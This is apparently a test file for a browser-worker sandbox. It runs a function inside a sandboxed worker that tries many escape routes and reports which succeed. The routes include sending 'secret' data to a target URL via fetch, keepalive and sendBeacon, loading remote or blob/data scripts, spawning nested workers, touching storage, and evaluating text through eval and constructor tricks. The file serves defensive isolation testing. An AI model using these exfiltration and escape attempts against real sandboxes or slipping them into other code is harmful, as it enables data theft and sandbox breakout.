/*
 * Everything that a script in a worker can try in order to reach something. The text of this file is put into
 * hostile glue, into a nested worker, and into an ordinary worker, where it must succeed: the control.
 */

/**
 * Tries all and reports each by name: `got <what>` or `refused <why>`.
 * @param {string} target - where to send what was stolen; ends in a slash.
 * @param {string} self_ - the source of this function, for nested workers; empty in a nested worker itself.
 */
async function attemptEverything(target, self_) {
  const socket = target.replace(/^http/, "ws");
  const report = {};
  const patience = (work) => Promise.race([work, new Promise((_, reject) => setTimeout(reject, self_ === "" ? 1500 : 5000, new Error("nothing happened")))]);
  const opened = (source) => new Promise((resolve, reject) => {
    source.onopen = () => resolve("a connection");
    source.onerror = () => reject(new Error("no connection"));
  });
  const blobUrl = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const nested = (url, options) => new Promise((resolve, reject) => {
    const worker = new Worker(url, options);
    worker.onmessage = ({ data }) => {
      // That a worker has names in it before anything is taken away reaches nothing.
      const won = Object.entries(data).filter(([name, result]) => result.startsWith("got") && name !== "self.constructor" && name !== "a global's prototype").map(([name, result]) => name + ": " + result);
      if (won.length === 0) reject(new Error("a worker that reaches nothing"));
      else resolve(won.join("; "));
    };
    worker.onerror = () => reject(new Error("it did not start"));
  });
  const nestedSource = (name) => `${self_}; attemptEverything(${JSON.stringify(target + name + "-")}, "").then(postMessage)`;
  const evaluated = (value) => {
    if (value !== 42) throw new Error("not evaluated");
    return "evaluated text";
  };

  const network = {
    fetch: async () => (await fetch(target + "fetch")).status,
    "fetch without CORS": async () => (await fetch(target + "fetch-no-cors", { mode: "no-cors" })).type,
    "fetch of data:": async () => (await fetch("data:text/plain,leak")).text(),
    "fetch of blob:": async () => (await fetch(blobUrl("leak"))).text(),
    "fetch with the origin's cookies": async () => (await fetch(target + "fetch-with-cookies", { credentials: "include" })).status,
    "fetch with keepalive": async () => (await fetch(target + "keepalive", { method: "POST", body: "secret", keepalive: true, mode: "no-cors" })).type,
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open("GET", target + "xhr", false);
      request.send();
      return request.status;
    },
    WebSocket: () => opened(new WebSocket(socket + "websocket")),
    WebSocketStream: async () => String(await new WebSocketStream(socket + "websocket-stream").opened),
    EventSource: () => opened(new EventSource(target + "event-source")),
    WebTransport: async () => String(await new WebTransport(target.replace(/^http:/, "https:") + "web-transport").ready),
    RTCPeerConnection: () => typeof new RTCPeerConnection().createDataChannel("leak"),
    sendBeacon: () => {
      if (!navigator.sendBeacon(target + "beacon", "secret")) throw new Error("not queued");
      return "queued";
    },
    importScripts: () => `${importScripts(target + "import-scripts")}`,
    "importScripts of data:": () => {
      importScripts("data:text/javascript,self.imported=42");
      return evaluated(self.imported);
    },
    "importScripts of blob:": () => {
      importScripts(blobUrl("self.importedBlob=42"));
      return evaluated(self.importedBlob);
    },
    "import()": async () => typeof (await import(target + "import")),
    "import() of data:": async () => evaluated((await import("data:text/javascript,export default 42")).default),
    "import() of blob:": async () => evaluated((await import(blobUrl("export default 42"))).default),
    "import() of JSON": async () => typeof (await import(target + "import.json", { with: { type: "json" } })),
    FontFace: async () => (await new FontFace("leak", `url(${target}font)`).load()).status,
    Image: () => {
      new Image().src = target + "image";
      return "an image";
    },
    "WebAssembly.compileStreaming": async () => String(await WebAssembly.compileStreaming(fetch(target + "compile-streaming"))),
    "service worker": async () => String(await navigator.serviceWorker.register(target + "service-worker")),
    "Request and cache": async () => String(await (await caches.open("leak")).add(target + "cache-add")),
    "background fetch": async () => String(await self.registration.backgroundFetch.fetch("leak", target + "background-fetch")),
  };
  const workers = {
    "nested worker from http:": () => nested(target + "nested-http"),
    "nested module worker from http:": () => nested(target + "nested-http-module", { type: "module" }),
    SharedWorker: () => typeof new SharedWorker(target + "shared-worker").port,
    "SharedWorker of data:": () => typeof new SharedWorker("data:text/javascript,fetch(" + JSON.stringify(target + "shared-data") + ")").port,
  };
  if (self_ !== "") {
    Object.assign(workers, {
      "nested worker from data:": () => nested("data:text/javascript," + encodeURIComponent(nestedSource("nested-data"))),
      "nested module worker from data:": () => nested("data:text/javascript," + encodeURIComponent(nestedSource("nested-data-module")), { type: "module" }),
      "nested worker from blob:": () => nested(blobUrl(nestedSource("nested-blob"))),
      "nested module worker that imports": () => nested("data:text/javascript," + encodeURIComponent(`import ${JSON.stringify(target + "static-import")}`), { type: "module" }),
    });
  }
  const storage = {
    indexedDB: () => new Promise((resolve, reject) => {
      const request = indexedDB.open("leak");
      request.onsuccess = () => resolve("a database");
      request.onerror = () => reject(request.error);
    }),
    caches: async () => String(await caches.open("leak")),
    "private file system": async () => String(await navigator.storage.getDirectory()),
    "file system of WebKit": () => String(webkitRequestFileSystemSync(0, 1024)),
    "storage buckets": async () => String(await navigator.storageBuckets.open("leak")),
    locks: () => navigator.locks.request("leak", () => "a lock"),
    cookieStore: async () => String(await cookieStore.getAll()),
    localStorage: () => typeof localStorage.getItem("leak"),
    sessionStorage: () => typeof sessionStorage.getItem("leak"),
    BroadcastChannel: () => new Promise((resolve) => {
      const channel = new BroadcastChannel("portcullis-attack");
      channel.onmessage = ({ data }) => {
        // A nested worker of the same opaque origin may be heard too, which is no way out.
        if (data === "the page is here") resolve("an answer of the page");
      };
      channel.postMessage("anybody there?");
    }),
  };
  const evaluation = {
    eval: () => evaluated(eval("6*7")),
    "indirect eval": () => evaluated((0, eval)("6*7")),
    Function: () => evaluated(Function("return 42")()),
    "constructor of a function": () => evaluated((function () {}).constructor("return 42")()),
    "constructor of an async function": async () => evaluated(await (async () => {}).constructor("return 42")()),
    "constructor of a generator": () => evaluated((function* () {}).constructor("yield 42")().next().value),
    "constructor of an async generator": async () => evaluated((await (async function* () {}).constructor("yield 42")().next()).value),
    "Reflect.construct": () => evaluated(Reflect.construct((() => {}).constructor, ["return 42"])()),
    "constructor of an error's class": () => evaluated(new Error("").constructor.constructor("return 42")()),
    "setTimeout of text": () => new Promise((resolve) => {
      globalThis.timed = () => resolve("evaluated text");
      setTimeout("timed()", 1);
    }),
    "setInterval of text": () => new Promise((resolve) => {
      globalThis.repeated = () => resolve("evaluated text");
      setInterval("repeated()", 1);
    }),
    "constructor of a constructor": () => evaluated({}.constructor.constructor("return 42")()),
    "constructor of a bound function": () => evaluated(Math.max.bind().constructor("return 42")()),
  };
  const ways = {
    "self.constructor": () => typeof self.constructor.constructor,
    "a global's prototype": () => {
      for (let target = Object.getPrototypeOf(globalThis); target !== null; target = Object.getPrototypeOf(target)) {
        for (const name of ["fetch", "importScripts", "postMessage", "addEventListener", "indexedDB", "close", "caches", "navigator", "onmessage"]) {
          if (Object.hasOwn(target, name)) return "a " + name;
        }
      }
      throw new Error("nothing left");
    },
    prepareStackTrace: () => {
      const sites = [];
      Error.prepareStackTrace = (_, stack) => {
        for (const site of stack) sites.push(site.getThis?.(), site.getFunction?.());
        return "";
      };
      try {
        void new Error("").stack;
      } finally {
        delete Error.prepareStackTrace;
      }
      // The engine's functions and the attacker's own are no catch; the runtime's would be.
      const caught = sites.find((value) => value !== undefined && value !== null && value !== globalThis && !/attempt|prepareStackTrace|\[native code\]|portcullis-own/.test(String(value)));
      if (caught === undefined) throw new Error("no frame gives itself away");
      return "the function " + String(caught).slice(0, 100);
    },
    Notification: () => {
      if (Notification.permission !== "granted") throw new Error("not permitted");
      return typeof new Notification("leak");
    },
    "the page's document": () => typeof (globalThis.document ?? globalThis.window ?? globalThis.parent ?? globalThis.top ?? globalThis.opener).title,
  };

  // All at once, and all begun before anything else happens: whoever escapes has only this moment.
  await Promise.all(Object.entries({ ...workers, ...storage, ...network, ...evaluation, ...ways }).map(async ([name, attempt]) => {
    try {
      report[name] = "got " + (await patience(attempt()));
    } catch (error) {
      report[name] = "refused " + (error?.name ?? typeof error) + ": " + String(error?.message ?? error).slice(0, 120);
    }
  }));
  return report;
}
